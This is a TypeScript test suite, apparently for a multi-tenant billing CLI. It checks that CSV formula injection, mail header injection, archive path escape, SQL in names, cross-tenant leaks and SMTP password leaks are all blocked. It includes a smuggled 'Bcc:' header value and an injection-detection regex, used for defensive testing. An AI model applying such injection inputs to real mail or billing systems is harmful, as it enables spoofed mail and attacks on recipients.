  // 1. Spreadsheet formulas

  it('formulas in display names, L-Platform names and product names come out of the archived and the mailed zip with a leading quote; tab and CR are refused by the imports and neutralized when stored another way', () => {
    expectRowsNamed(cloud.refusals.tenants, FX_REFUSED, 'display_name');
    const names = new Map(FX_NAMES);
    for (const f of FX_STORED) names.set(f.tenant, { display: f.display, lpName: f.lpName });

    /** The checks of one tenant's zip, archived or mailed. */
    const check = (where: string, tenant: string, zip: Buffer): void => {
      const i = FX.indexOf(tenant);
      const csvs = zipCsvs(zip);
      const { display, lpName } = names.get(tenant)!;
      const list = csvs.get(`${YYYYMM}_${tenant}.csv`);
      const detail = csvs.get(`${YYYYMM}_${tenant}-LP1.csv`);
      expect(list, where).toBeDefined();
      expect(detail, where).toBeDefined();
      for (const [name, rows] of csvs) expectNeutralized(`${where} ${name}`, rows);
      // The names, each with its quote; nothing else in them changed.
      expect(list![1]![0]!.value).toBe(tenant);
      expect(list![1]![1]!.value, where).toBe(`'${display}`);
      expect(list!.find((row) => row[6]!.value === `${tenant}-LP1`)![7]!.value, where).toBe(`'${lpName}`);
      expect(detail![1]![1]!.value, where).toBe(`'${display}`);
      expect(detail![1]![4]!.value, where).toBe(`'${lpName}`);
      // A resource name is shown after its kind's label, so it never starts a cell; it is there as it was.
      const items = detail!.slice(2);
      expect(
        items.map((row) => row[9]!.value),
        where,
      ).toContain(`Virtual server(${fxServerName(i)})`);
      // The product's name and identifier (ItemColumn2 and 3 of its line).
      const product = LICENSES[i % 2]!;
      const line = items.find((row) => row[10]!.value === `'${product.name}`);
      expect(line, where).toBeDefined();
      expect(line![11]!.value).toBe(`'${product.ident}`);
      if (tenant === 'FX01') {
        // The L-Platform named exactly `-` keeps its name.
        expect(list!.find((row) => row[6]!.value === 'FX01-LP2')![7]!.value).toBe('-');
        expect(csvs.get(`${YYYYMM}_FX01-LP2.csv`)![1]![4]!.value).toBe('-');
      }
    };
    for (const t of FX) check(`archived ${t}`, t, cloud.zips.get(t)!.bytes);
    const mailed = cloud.pass.filter((m) => FX.includes(headerText(m, 'x-usage-charges-tenant')));
    expect(mailed).toHaveLength(FX.length);
    for (const m of mailed) {
      const tenant = headerText(m, 'x-usage-charges-tenant');
      expectOneRecipient(m, `billing@${tenant.toLowerCase()}.example.com`);
      expect(m.parsed.attachments.map((a) => a.filename)).toEqual([`${YYYYMM}_${tenant}.zip`]);
      check(`mailed ${tenant}`, tenant, m.parsed.attachments[0]!.content);
    }
    // No zip of the whole cloud has a cell a spreadsheet would run.
    for (const [t, z] of cloud.zips)
      for (const [name, rows] of zipCsvs(z.bytes)) expectNeutralized(`${JSON.stringify(t)} ${name}`, rows);
  });

  // -------------------------------------------------------------------------------------------
  // 2. Mail header injection

  it('addresses with line breaks or lists are refused by the import, fail alone when stored another way, and are refused by resend --to', () => {
    expectRowsNamed(cloud.refusals.tenants, HX_REFUSED, 'display_name');
    expectRowsNamed(
      cloud.refusals.contacts,
      REFUSED_ROWS.contacts.filter((r) => !CONTACT_NAMES_REFUSED.includes(r)),
      'email',
    );
    expectRowsNamed(cloud.refusals.contacts, CONTACT_NAMES_REFUSED, 'contact_name');
    expect(cloud.aroundRefusals[1]).toEqual(cloud.aroundRefusals[0]);

    const failed = withStore(
      cloud.s.env,
      (db) =>
        db
          .prepare(
            `SELECT recipient, status, last_error AS lastError FROM deliveries
      WHERE status <> 'sent'`,
          )
          .all() as { recipient: string; status: string; lastError: string }[],
    );
    expect(failed.map((d) => d.recipient).sort()).toEqual(BAD_ADDRESSES.map((a) => a.replace('@hi.', '@hi07.')).sort());
    for (const d of failed) {
      expect(d.status).toBe('failed');
      expect(d.lastError).toMatch(/is not one plain e-mail address/);
    }
    for (const { to, run } of cloud.resendTo) {
      expect(run.code, to).toBe(2);
      expect(run.stderr, to).toMatch(/^error: --to: .* is not an e-mail address\n$/s);
    }
    expect(cloud.resendBadReason.code).toBe(2);
    expect(cloud.resendBadReason.stderr).toBe('error: --reason: must be one line of at most 500 characters\n');
    // The server was given the contacts' addresses only: once each by the pass, then by the two resends.
    const intended = [...CONTACTS.map((c) => c[1]!), STORED_CONTACT.email];
    const resent = [...cloud.resends.HI01.messages, ...cloud.resends.SQ1.messages].map((m) => m.envelope.rcptTo[0]!);
    expect([...cloud.smtp.rcptTo].sort()).toEqual([...intended, ...resent].sort());
    expect(cloud.smtp.rcptTo.filter((a) => a.includes('evil'))).toEqual([]);
  });

  it('names that look like headers add no header and no recipient: each mail has one recipient, in the envelope and the To header', () => {
    const tenants = HI.map((h) => h.tenant);
    const mailed = cloud.pass.filter((m) => tenants.includes(headerText(m, 'x-usage-charges-tenant')));
    expect(mailed.map((m) => m.envelope.rcptTo[0]).sort()).toEqual(
      [...HI.flatMap((h) => h.contacts.map((c) => c[0]!)), STORED_CONTACT.email].sort(),
    );
    for (const m of mailed) {
      const to = m.envelope.rcptTo[0]!;
      expectOneRecipient(m, to);
      const tenant = headerText(m, 'x-usage-charges-tenant');
      expect([
        ...HI.find((h) => h.tenant === tenant)!.contacts.map((c) => c[0]),
        ...(tenant === STORED_CONTACT.tenant ? [STORED_CONTACT.email] : []),
      ]).toContain(to);
      // The header block (a body line may show a display name that reads like a header).
      expect(m.raw.toString('latin1').split('\r\n\r\n')[0]).not.toMatch(/^(bcc|cc|to):.*evil/im);
    }
    const { run, messages } = cloud.resends.HI01;
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    expect(messages.map((m) => m.envelope.rcptTo[0]).sort()).toEqual([
      'ap@hi01.example.com',
      "o'brien+x@hi01.example.com",
    ]);
    for (const m of messages) expectOneRecipient(m, m.envelope.rcptTo[0]!);
  });

  it('a subject shows the display name as one line, as it is, also when the name is written like an RFC 2047 encoded word', () => {
    const shown = cloud.pass
      .filter((m) => m.envelope.rcptTo[0]!.startsWith('ap@hi'))
      .map((m) => {
        const tenant = headerText(m, 'x-usage-charges-tenant');
        const subject = m.parsed.subject ?? '';
        const expected = HI.find((h) => h.tenant === tenant)!.shown;
        return [
          tenant,
          /[\r\n]/.test(subject)
            ? `line break in ${JSON.stringify(subject)}`
            : subject.includes(expected)
              ? 'shown as it is'
              : JSON.stringify(subject),
        ];
      });
    expect(shown.sort()).toEqual(HI.map((h) => [h.tenant, 'shown as it is']));
  });

  it('the pass report prints a failed delivery on one line: a stored address cannot forge report lines', () => {
    // stderr holds the report's failure lines and the log's JSON lines, nothing else.
    const lines = cloud.run.stderr.split('\n').filter((l) => l !== '' && !l.startsWith('{'));
    expect(lines.filter((l) => l.startsWith('  failed to send '))).toHaveLength(BAD_ADDRESSES.length);
    expect(lines.filter((l) => !l.startsWith('  failed to send '))).toEqual([]);
  });

  // -------------------------------------------------------------------------------------------
  // 3. Names built to leave the archive folder

  it('tenant names and L-Platform IDs built to escape are refused by the imports with exit 2', () => {
    expectRowsNamed(
      cloud.refusals.tenants,
      REFUSED_ROWS.tenants.filter((r) => ESCAPE_NAMES.includes(r[0]!)),
      'tenant_name',
    );
    expectRowsNamed(cloud.refusals.nul, cloud.refusals.nul.rows, '(encoding)');
    expectRowsNamed(
      cloud.refusals.lplatforms,
      REFUSED_ROWS.lplatforms.filter((r) => ESCAPE_IDS.includes(r[0]!)),
      'lplatform_id',
    );
  });

  it('the names the imports accept, and those stored another way, give plain file names: every file inside DATA_DIR/statements/<month>/, every zip entry a plain name', () => {
    const { s } = cloud;
    // Nothing beside the data dir; in it only the store and the month's zips.
    expect(fs.readdirSync(s.root).sort()).toEqual(['data', 'in']);
    const all = walk(s.env.DATA_DIR);
    expect(all.filter((e) => e.dir).map((e) => e.rel)).toEqual(['statements', `statements/${YYYYMM}`]);
    const outside = all.filter((e) => !e.dir && !e.rel.startsWith('statements/')).map((e) => e.rel);
    expect(
      outside.every((f) => /^usage-charges\.sqlite(-wal|-shm)?$/.test(f)),
      outside.join(', '),
    ).toBe(true);
    const zips = all
      .filter((e) => !e.dir && e.rel.startsWith('statements/'))
      .map((e) => e.rel.slice(`statements/${YYYYMM}/`.length));
    const expected = FINAL_TENANTS.map(zipNameOf).sort();
    expect(new Set(expected).size).toBe(FINAL_TENANTS.length);
    expect(zips).toEqual(expected);
    for (const z of zips) expect(z).toMatch(/^202610_[A-Za-z0-9_-]{1,109}\.zip$/);
    for (const t of FINAL_TENANTS) expect(cloud.zips.get(t)!.name, JSON.stringify(t)).toBe(zipNameOf(t));
    // The odd names the imports accept: kept where the rule keeps them, changed (with a hash) where not.
    expect(zips).toEqual(
      expect.arrayContaining([`${YYYYMM}_COM10.zip`, `${YYYYMM}_con1.zip`, `${YYYYMM}_P${'A'.repeat(31)}.zip`]),
    );
    expect(zips.filter((z) => /^202610_(PA-deadbeef|PA_20261120)-[0-9a-f]{8}\.zip$/.test(z))).toHaveLength(2);

    // Every zip: flat, plain entry names, the list file and one detail file per L-Platform; the names inside as they were.
    for (const t of FINAL_TENANTS) {
      const entries = readZip(cloud.zips.get(t)!.bytes);
      for (const e of entries) expectPlainEntryName(e.name, e.nameBytes);
      const listName = `${YYYYMM}_${safeFileName(t)}.csv`;
      expect(
        entries.map((e) => e.name),
        JSON.stringify(t),
      ).toEqual([listName, ...finalLps(t).map((lp) => `${YYYYMM}_${safeFileName(lp)}.csv`)].sort());
      const list = parseCsv(entries.find((e) => e.name === listName)!.data.toString('utf8'));
      expect(list[1]![0]!.value).toBe(t);
      expect(
        list
          .slice(2)
          .map((row) => row[6]!.value)
          .sort(),
      ).toEqual([...finalLps(t)].sort());
    }
    expect(zips.filter((z) => /^202610__CON-[0-9a-f]{8}\.zip$/.test(z))).toHaveLength(1);
    // Mails carry the zip under its plain name.
    for (const m of cloud.pass)
      expect(m.parsed.attachments[0]!.filename ?? '').toMatch(/^202610_[A-Za-z0-9_-]{1,109}\.zip$/);
  });

  // -------------------------------------------------------------------------------------------
  // 4. SQL in names and IDs

  it('SQL in IDs is refused (exit 2, nothing changed), and so are commands given SQL as a tenant or month', () => {
    expectRowsNamed(cloud.refusals.tenants, SQL_REFUSED.tenants, 'tenant_name');
    expectRowsNamed(cloud.refusals.lplatforms, [SQL_REFUSED.lplatforms[0]!], 'lplatform_id');
    expectRowsNamed(cloud.refusals.lplatforms, [SQL_REFUSED.lplatforms[1]!], 'tenant_name');
    expectRowsNamed(cloud.refusals.usage, SQL_REFUSED.usage, 'record_id');
    expect(cloud.aroundRefusals[1]).toEqual(cloud.aroundRefusals[0]);
    for (const { args, run } of cloud.asked) {
      expect(run.code, args.join(' ')).toBe(2);
      expect(run.stderr, args.join(' ')).toMatch(/^error: /);
      expect(hasStackTrace(run.stderr)).toBe(false);
    }
    expect(cloud.aroundAsked[1]).toEqual(cloud.aroundAsked[0]);
  });

  it('SQL in names is stored, written and mailed verbatim, and changes nothing else', () => {
    const { s } = cloud;
    expect(cloud.schemaAtEnd).toEqual(cloud.schemaAfterImport);
    withStore(s.env, (db) => {
      const tenantsIn = `(${SQ.map(() => '?').join(',')})`;
      expect(
        db
          .prepare(
            `SELECT tenant_name, display_name FROM tenants WHERE tenant_name IN ${tenantsIn} ORDER BY tenant_name`,
          )
          .all(...SQ),
      ).toEqual(SQ.map((t, i) => ({ tenant_name: t, display_name: SQL[i] })));
      expect(
        db
          .prepare(
            `SELECT l.lplatform_id, l.lplatform_name FROM lplatforms l JOIN tenants t USING (tenant_pk) WHERE t.tenant_name IN ${tenantsIn} ORDER BY l.lplatform_id`,
          )
          .all(...SQ),
      ).toEqual(SQ.map((t, i) => ({ lplatform_id: `${t}-LP1`, lplatform_name: SQL[(i + 2) % SQL.length] })));
      expect(
        db
          .prepare(
            `SELECT c.email, c.contact_name FROM contacts c JOIN tenants t USING (tenant_pk) WHERE t.tenant_name IN ${tenantsIn} ORDER BY c.contact_pk`,
          )
          .all(...SQ),
      ).toEqual([
        ...SQ.map((t, i) => ({ email: `ap@${t.toLowerCase()}.example.com`, contact_name: SQL[(i + 1) % SQL.length] })),
        { email: SQL_CONTACT, contact_name: SQL[4] },
      ]);
      expect(
        db
          .prepare("SELECT resource_name FROM usage_records WHERE record_id GLOB 'SQ?-LP1-u2' ORDER BY record_id")
          .pluck()
          .all(),
      ).toEqual(SQ.map((_, i) => SQL[(i + 3) % SQL.length]));
      expect(
        db
          .prepare('SELECT product_name, description, resource_identifier FROM catalog_products WHERE product_id = ?')
          .get(SQL_PRODUCT.id),
      ).toEqual({
        product_name: SQL_PRODUCT.name,
        description: SQL_PRODUCT.description,
        resource_identifier: SQL_PRODUCT.ident,
      });
      // Nothing else changed: every tenant, contact, L-Platform, product and usage record of the imports is there.
      expect(db.prepare('SELECT COUNT(*) FROM tenants').pluck().get()).toBe(CLOUD_TENANTS.length);
      expect(db.prepare('SELECT COUNT(*) FROM contacts').pluck().get()).toBe(
        CONTACTS.length + BAD_ADDRESSES.length + 1,
      );
      expect(db.prepare('SELECT COUNT(*) FROM catalog_products').pluck().get()).toBe(2 + LICENSES.length + 1);
      expect(db.prepare("SELECT COUNT(*) FROM statements WHERE status = 'fixed'").pluck().get()).toBe(
        CLOUD_TENANTS.length,
      );
      const audit = db
        .prepare("SELECT subject, detail FROM audit_log WHERE action = 'resend' ORDER BY audit_pk")
        .all() as { subject: string; detail: string }[];
      expect(audit.map((a) => [a.subject, (JSON.parse(a.detail) as { reason: string }).reason])).toEqual([
        ['HI01', `Bcc: ${EVIL}`],
        ['SQ1', SQL_REASON],
      ]);
    });

    // The CSVs hold the names verbatim (text in quotes, quotes doubled, read back the same).
    for (const [i, t] of SQ.entries()) {
      const csvs = zipCsvs(cloud.zips.get(t)!.bytes);
      const list = csvs.get(`${YYYYMM}_${t}.csv`)!;
      expect(list[1]![1]!.value).toBe(SQL[i]);
      expect(list[2]![7]!.value).toBe(SQL[(i + 2) % SQL.length]);
      const detail = csvs.get(`${YYYYMM}_${t}-LP1.csv`)!;
      expect(detail[1]![1]!.value).toBe(SQL[i]);
      expect(detail[1]![4]!.value).toBe(SQL[(i + 2) % SQL.length]);
      const items = detail.slice(2);
      expect(items.map((row) => row[9]!.value)).toContain(`Virtual server(${SQL[(i + 3) % SQL.length]})`);
      expect(items.map((row) => row[10]!.value)).toContain(SQL_PRODUCT.name);
      expect(items.map((row) => row[11]!.value)).toContain(SQL_PRODUCT.ident);
    }
    // The contact whose address holds quotes got its mail alone, from the pass and from the resend.
    expect(cloud.resends.SQ1.run.code, cloud.resends.SQ1.run.stderr).toBe(0);
    const ohara = [...cloud.pass, ...cloud.resends.SQ1.messages].filter((m) => m.envelope.rcptTo[0] === SQL_CONTACT);
    expect(ohara).toHaveLength(2);
    for (const m of ohara) expectOneRecipient(m, SQL_CONTACT);
  });
});

const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/u;

/**
 * Every cell of a statement CSV is safe to open in a spreadsheet: a text (quoted) cell that starts
 * like a formula starts with `'` instead (the cell that is exactly `-` excepted); a bare cell is an
 * amount or nothing.
 */
function expectNeutralized(where: string, rows: CsvCell[][]): void {
  expect(rows.length, where).toBeGreaterThan(1);
  expect(rows[0]![0]!.value.startsWith('#'), where).toBe(true);
  for (const [r, row] of rows.slice(1).entries()) {
    for (const [c, x] of row.entries()) {
      const at = `${where} row ${r + 2} column ${c + 1}: ${JSON.stringify(x.value)}`;
      if (x.quoted) expect(x.value !== '-' && FORMULA_START.test(x.value), at).toBe(false);
      else expect(x.value, at).toMatch(/^(-?\d+(\.\d+)?)?$/);
    }
  }
}

/** A zip entry's name is one plain file name: no separator, NUL, drive letter, or dot-dot. */
function expectPlainEntryName(name: string, nameBytes: Buffer): void {
  expect(name).toMatch(/^202610_[A-Za-z0-9_-]{1,109}\.csv$/);
  for (const b of ['/', '\\', '\0', ':'])
    expect(nameBytes.includes(b), `${JSON.stringify(name)} holds ${JSON.stringify(b)}`).toBe(false);
  expect(name.split('.')).toHaveLength(2);
  expect(nameBytes.equals(Buffer.from(name, 'utf8'))).toBe(true);
}

// ---------------------------------------------------------------------------------------------
// 5. A thousand tenants: each sees its own data only

describe("a tenant's files and mails hold that tenant's data only (1,000 tenants)", () => {
  it("every zip holds its own tenant's rows and L-Platforms only; every mail goes to a contact of the tenant whose zip it carries", async () => {
    const s = scenario('isolation');
    const generated = writeCloud(
      { tenants: 1000, lplatforms: 1, servers: 1, seed: 20261101, bigTenant: false },
      s.inputs,
    );
    expect(REFERENCE_MONTH).toBe(MONTH);
    for (const kind of FILE_KINDS) {
      const r = await runCli(['import', kind, generated.paths[kind]], s.env);
      expect(r.stderr, kind).toBe('');
      expect(r.code, kind).toBe(0);
    }
    const rows = (kind: (typeof FILE_KINDS)[number]): Record<string, string>[] =>
      parse(fs.readFileSync(generated.paths[kind], 'utf8'), { columns: true, skip_empty_lines: true }) as Record<
        string,
        string
      >[];
    const tenants = new Set(rows('tenants').map((t) => t.tenant_name!));
    const lpTenant = new Map(rows('lplatforms').map((l) => [l.lplatform_id!, l.tenant_name!]));
    const contactsOf = new Map<string, Set<string>>();
    for (const c of rows('contacts')) {
      if (c.active !== 'true') continue;
      contactsOf.set(c.tenant_name!, (contactsOf.get(c.tenant_name!) ?? new Set()).add(c.email!));
    }
    expect(tenants.size).toBe(1000);

    const smtp = await smtpServer();
    const r = await runCli(['run', '--as-of', CLOUD_AS_OF], { ...s.env, SMTP_URL: smtp.url });
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(
      new RegExp(
        `: 1000 statements closed, 0 failed to close; 1000 files written, 0 failed; ${generated.counts.activeContacts} mails sent, 0 retrying, 0 failed$`,
        'm',
      ),
    );

    // The archive: one zip per tenant; every row's tenant and L-Platform are its own.
    const tenantOfZip = new Map<string, string>();
    const archived = archivedZips(s.env);
    expect(archived.size).toBe(1000);
    for (const [name, zip] of archived) {
      const m = /^202610_(BT\d{6})(_\d{8})?\.zip$/.exec(name);
      expect(m, name).not.toBeNull();
      const tenant = m![1]!;
      expect(tenants.has(tenant)).toBe(true);
      tenantOfZip.set(sha256(zip), tenant);
      const entries = readZip(zip);
      const lpsSeen = new Set<string>();
      for (const e of entries) {
        const text = e.data.toString('utf8');
        // No name of another tenant anywhere in the file (tenant names, L-Platform IDs and server names all carry it).
        expect(new Set(text.match(/BT\d{6}/g) ?? []), `${name} ${e.name}`).toEqual(new Set([tenant]));
        const csv = parseCsv(text);
        const isList = csv[0]![0]!.value === '#TenantName' && csv[0]![6]!.value === 'LplatformId';
        const lpColumn = isList ? 6 : 3;
        for (const row of csv.slice(1)) {
          expect(['', tenant], `${name} ${e.name}`).toContain(row[0]!.value);
          const lp = row[lpColumn]!.value;
          if (lp !== '') {
            expect(lpTenant.get(lp), `${name} ${e.name} ${lp}`).toBe(tenant);
            lpsSeen.add(lp);
          }
        }
        expect(csv[1]![0]!.value, `${name} ${e.name}`).toBe(tenant);
      }
      expect(lpsSeen.size, name).toBeGreaterThan(0);
    }
    expect(new Set(tenantOfZip.values()).size).toBe(1000);

    // The mails: one per active contact, each to a contact of the tenant whose zip it carries.
    expect(smtp.messages).toHaveLength(generated.counts.activeContacts);
    const reached = new Set<string>();
    for (const m of smtp.messages) {
      expect(m.envelope.rcptTo).toHaveLength(1);
      const to = m.envelope.rcptTo[0]!;
      expect(m.parsed.attachments).toHaveLength(1);
      const tenant = tenantOfZip.get(sha256(m.parsed.attachments[0]!.content));
      expect(tenant, to).toBeDefined();
      expect(contactsOf.get(tenant!)?.has(to), `${to} got ${tenant}'s zip`).toBe(true);
      expect(headerText(m, 'x-usage-charges-tenant')).toBe(tenant);
      expect((m.parsed.to as AddressObject).value.map((a) => a.address)).toEqual([to]);
      // The subject and body name no other tenant.
      const named = `${m.parsed.subject ?? ''}\n${m.parsed.text ?? ''}\n${m.parsed.html || ''}`.match(/BT\d{6}/g) ?? [];
      expect(
        named.filter((x) => x !== tenant),
        to,
      ).toEqual([]);
      expect(reached.has(to), `${to} twice`).toBe(false);
      reached.add(to);
    }
    expect(reached.size).toBe([...contactsOf.values()].reduce((n, c) => n + c.size, 0));
  });
});

// ---------------------------------------------------------------------------------------------
// 6. The SMTP password

const USER = 'user';
const PASSWORD = 'S3cr3t-p@ss';
const PASSWORD_IN_URL = 'S3cr3t-p%40ss';
/** Every form the password could leak in: as given, URL-encoded, and as AUTH PLAIN and AUTH LOGIN send it. */
const PASSWORD_FORMS = [
  PASSWORD,
  PASSWORD_IN_URL,
  'S3cr3t-p%2540ss',
  Buffer.from(PASSWORD).toString('base64'),
  Buffer.from(`\0${USER}\0${PASSWORD}`).toString('base64'),
  Buffer.from(`${USER}\0${PASSWORD}`).toString('base64'),
  Buffer.from(PASSWORD, 'utf16le').toString('latin1'),
];

/** Fails if any form of the password is in `text` (or bytes). */
function expectNoPassword(where: string, data: string | Buffer): void {
  const bytes = typeof data === 'string' ? Buffer.from(data, 'utf8') : data;
  for (const form of PASSWORD_FORMS)
    expect(bytes.includes(Buffer.from(form, 'latin1')), `${where} holds ${JSON.stringify(form)}`).toBe(false);
  expect(bytes.toString('utf8').toLowerCase().includes(PASSWORD.toLowerCase()), `${where} holds the password`).toBe(
    false,
  );
}

/** A port on 127.0.0.1 that nothing listens on (taken and released). */
async function closedPort(): Promise<number> {
  const server = net.createServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as net.AddressInfo).port;
  await new Promise<void>((resolve) => server.close(() => resolve()));
  return port;
}

describe('the SMTP password', () => {
  it('appears in no output, log line or file, whether the server accepts the login, refuses it, or is not there', async () => {
    const accepting = await smtpServer({ auth: { user: USER, pass: PASSWORD } });
    const refusing = await smtpServer({ auth: { user: USER, pass: 'another-password' } });
    const absent = await closedPort();
    expect(accepting.url).toBe(`smtp://${USER}:${PASSWORD_IN_URL}@127.0.0.1:${accepting.port}`);
    const cases = [
      { name: 'pw-accepted', port: accepting.port, code: 0 },
      { name: 'pw-refused', port: refusing.port, code: 1 },
      { name: 'pw-absent', port: absent, code: 1 },
    ];
    const envs = cases.map((c) => ({
      ...scenario(c.name).env,
      LOG_LEVEL: 'trace',
      LOG_FORMAT: 'json',
      SMTP_URL: `smtp://${USER}:${PASSWORD_IN_URL}@127.0.0.1:${c.port}`,
    }));
    const outputs: [string, CliRun][] = [];
    // One seeded store, copied for the other two cases (no process has it open).
    const seed = await runCli(['seed-demo', '--as-of', AS_OF], envs[0]!);
    expect(seed.code, seed.stderr).toBe(0);
    outputs.push(['seed-demo', seed]);
    for (const env of envs.slice(1)) copyDataDir(envs[0]!.DATA_DIR, env.DATA_DIR);

    const runs = await Promise.all(envs.map((env) => runCli(['run', '--as-of', AS_OF], env)));
    for (const [i, run] of runs.entries()) {
      expect(run.code, `${cases[i]!.name}: ${run.stderr}`).toBe(cases[i]!.code);
      expect(run.stdout).toContain(`mails: smtp://${USER}:***@127.0.0.1:${cases[i]!.port}\n`);
      expect(run.stderr.split('\n').some((l) => l.startsWith('{'))).toBe(true);
      outputs.push([`run ${cases[i]!.name}`, run]);
    }
    // It did log in, with the password, where the server accepted it; the refusing server saw no login.
    expect(accepting.logins.length).toBeGreaterThan(0);
    expect(accepting.messages).toHaveLength(5);
    expect(refusing.logins).toEqual([]);
    expect(refusing.messages).toEqual([]);
    // What the failures say: the login was refused; the server could not be reached.
    expect(runs[1]!.stderr + runs[1]!.stdout).toMatch(/535|auth/i);
    expect(runs[2]!.stderr + runs[2]!.stdout).toMatch(/ECONNREFUSED|refused|connect/i);

    // Further commands with the password configured: a resend, the status, a bad setting holding the password.
    outputs.push([
      'resend',
      await runCli(['resend', '--tenant', 'TNT00003', '--month', MONTH, '--reason', 'copy'], envs[0]!),
    ]);
    expect(outputs.at(-1)![1].code).toBe(0);
    // A dry run of the pass that could not reach its server writes its mails as .eml files in a temporary folder.
    const [dry, statusRefused, badPort, badEscape] = await Promise.all([
      runCli(['run', '--as-of', AS_OF, '--dry-run', '--keep'], envs[2]!),
      runCli(['status', '--month', MONTH], envs[1]!),
      runCli(['status'], { ...envs[0]!, SMTP_URL: `smtp://${USER}:${PASSWORD_IN_URL}@127.0.0.1:99999` }),
      runCli(['run', '--as-of', AS_OF], {
        ...envs[0]!,
        SMTP_URL: `smtp://${USER}:${PASSWORD_IN_URL}%zz@127.0.0.1:25`,
      }),
    ]);
    expect(dry.code, dry.stderr).toBe(0);
    const dryDir = /^dry run: .* what the pass would write and send is in (.+)$/m.exec(dry.stdout)?.[1];
    expect(dryDir, dry.stdout).toBeDefined();
    afterTest(() => fs.rmSync(dryDir!, { recursive: true, force: true }));
    outputs.push(['dry run', dry]);
    expect(statusRefused.code).toBe(0);
    outputs.push(['status', statusRefused]);
    expect(badPort.code).toBe(2);
    expect(badPort.stderr).toContain('SMTP_URL');
    outputs.push(['bad SMTP_URL', badPort]);
    expect(badEscape.code).toBe(2);
    expect(badEscape.stderr).toContain('SMTP_URL');
    outputs.push(['bad escape in SMTP_URL', badEscape]);

    for (const [what, o] of outputs) {
      expectNoPassword(`${what} stdout`, o.stdout);
      expectNoPassword(`${what} stderr`, o.stderr);
      expect(hasStackTrace(o.stderr), what).toBe(false);
    }
    // No file holds it: the stores (and their WAL), the zips, the dry run's copy of the store and its .eml files.
    for (const dir of [...envs.map((e) => e.DATA_DIR), dryDir!]) {
      const files = walk(dir).filter((e) => !e.dir);
      expect(files.some((f) => f.rel === 'usage-charges.sqlite')).toBe(true);
      for (const f of files) expectNoPassword(f.rel, fs.readFileSync(path.join(dir, f.rel)));
    }
    expect(walk(dryDir!).filter((f) => f.rel.endsWith('.eml')).length).toBe(5);
  });
});

// ---------------------------------------------------------------------------------------------
// 7. Owner-only files

/** `node ...argv` started by `sh` with umask 000 (the most permissive): `sh -c 'umask 000; exec node ...'`. */
function permissive(
  argv: string[],
  env: Record<string, string>,
): { child: ChildProcessWithoutNullStreams; out: { stdout: string; stderr: string }; exited: Promise<number | null> } {
  const child = spawn('sh', ['-c', 'umask 000; exec "$@"', 'sh', process.execPath, ...argv], {
    cwd: ROOT,
    env: { PATH: process.env.PATH ?? '', HOME: process.env.HOME ?? '', ...env },
  });
  const out = { stdout: '', stderr: '' };
  child.stdout.setEncoding('utf8').on('data', (d: string) => (out.stdout += d));
  child.stderr.setEncoding('utf8').on('data', (d: string) => (out.stderr += d));
  const exited = new Promise<number | null>((resolve, reject) => {
    child.on('error', reject);
    child.on('close', (code) => resolve(code));
  });
  afterTest(async () => {
    if (child.exitCode === null && child.signalCode === null) {
      child.kill('SIGKILL');
      await exited;
    }
  });
  return { child, out, exited };
}

async function permissiveRun(args: string[], env: Record<string, string>): Promise<CliRun> {
  const p = permissive([BIN, ...args], env);
  const code = await p.exited;
  return { code, stdout: p.out.stdout, stderr: p.out.stderr };
}

/** Every folder under (and including) the data dir is 0700, every file 0600. */
function expectOwnerOnly(dataDir: string): string[] {
  expect(fs.statSync(dataDir).mode & 0o777, dataDir).toBe(0o700);
  const entries = walk(dataDir);
  for (const e of entries)
    expect((fs.statSync(path.join(dataDir, e.rel)).mode & 0o777).toString(8), e.rel).toBe(e.dir ? '700' : '600');
  return entries.map((e) => e.rel);
}

describe("files are the owner's only", () => {
  it.skipIf(process.platform === 'win32')(
    'with umask 000 in the parent: the data dir and its folders 0700; the store, its WAL files, zips and .eml files 0600 (seed-demo, run, schedule)',
    async () => {
      const s = scenario('umask');
      const env = { ...s.env, LOG_LEVEL: 'warn' };
      // The shell really is permissive: what it starts inherits umask 000.
      const probe = permissive(['-p', 'process.umask().toString(8)'], {});
      expect(await probe.exited).toBe(0);
      expect(probe.out.stdout).toBe('0\n');

      // `npm start` does seed-demo --if-empty, then the service; here a `run` first, then the service.
      const seed = await permissiveRun(['seed-demo', '--if-empty'], env);
      expect(seed.code, seed.stderr).toBe(0);
      const run = await permissiveRun(['run'], env);
      expect(run.code, run.stderr).toBe(0);
      const afterRun = expectOwnerOnly(env.DATA_DIR);
      expect(afterRun).toContain('usage-charges.sqlite');
      const zips = afterRun.filter((f) => /^statements\/\d{6}\/[^/]+\.zip$/.test(f));
      expect(zips.length).toBeGreaterThanOrEqual(5);
      expect(afterRun.filter((f) => /^outbox\/[^/]+\.eml$/.test(f)).length).toBeGreaterThanOrEqual(5);
      expect(
        afterRun
          .filter((f) => f.startsWith('statements/') && !zips.includes(f))
          .every((f) => /^statements\/\d{6}$/.test(f)),
      ).toBe(true);

      // While the service runs, the store's -wal and -shm files exist: owner-only too.
      const service = permissive([BIN, 'schedule'], { ...env, CRON_SCHEDULE: '0 0 1 1 *' });
      const files = await until(() => {
        const names = fs.readdirSync(env.DATA_DIR);
        return /catch-up pass as of/.test(service.out.stdout) &&
          names.includes('usage-charges.sqlite-wal') &&
          names.includes('usage-charges.sqlite-shm')
          ? names
          : undefined;
      }, `the service's catch-up pass: ${service.out.stdout}${service.out.stderr}`);
      expect(files).toEqual(
        expect.arrayContaining([
          'usage-charges.sqlite',
          'usage-charges.sqlite-wal',
          'usage-charges.sqlite-shm',
          'statements',
          'outbox',
        ]),
      );
      expectOwnerOnly(env.DATA_DIR);
      service.child.kill('SIGTERM');
      expect(await service.exited).toBe(0);
      expectOwnerOnly(env.DATA_DIR);
    },
  );
});
